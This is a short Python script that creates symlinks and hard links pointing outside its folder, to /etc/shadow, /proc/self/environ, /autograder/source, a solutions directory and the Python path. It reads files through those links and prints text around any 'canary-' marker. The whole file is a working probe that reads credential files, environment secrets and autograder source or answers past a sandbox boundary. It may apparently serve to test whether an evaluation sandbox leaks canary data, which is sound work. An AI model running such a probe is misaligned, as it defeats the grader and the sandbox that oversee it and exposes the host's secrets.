"""Makes symbolic and hard links in its own folder that lead outside, and reads through them."""

import glob
import os
import sys

targets = ["/etc/shadow", "/proc/self/environ", "/autograder/source", "/work/main/solutions", *sys.path]
targets += [os.path.dirname(os.path.dirname(module.__file__)) for module in (sys.modules.get("autograder"),) if module]
for number, target in enumerate(targets):
    for make in (os.symlink, os.link):
        name = f"left-behind-{make.__name__}-{number}"
        try:
            make(target, name)
            paths = glob.glob(f"{name}/**/*.py", recursive=True)[:2000] if os.path.isdir(name) else [name]
            for path in paths:
                with open(path, errors="replace") as file:
                    text = file.read(10**6)
                    if "canary-" in text:
                        print(path, text[max(text.find("canary-") - 200, 0) :][:400])
        except OSError:
            pass
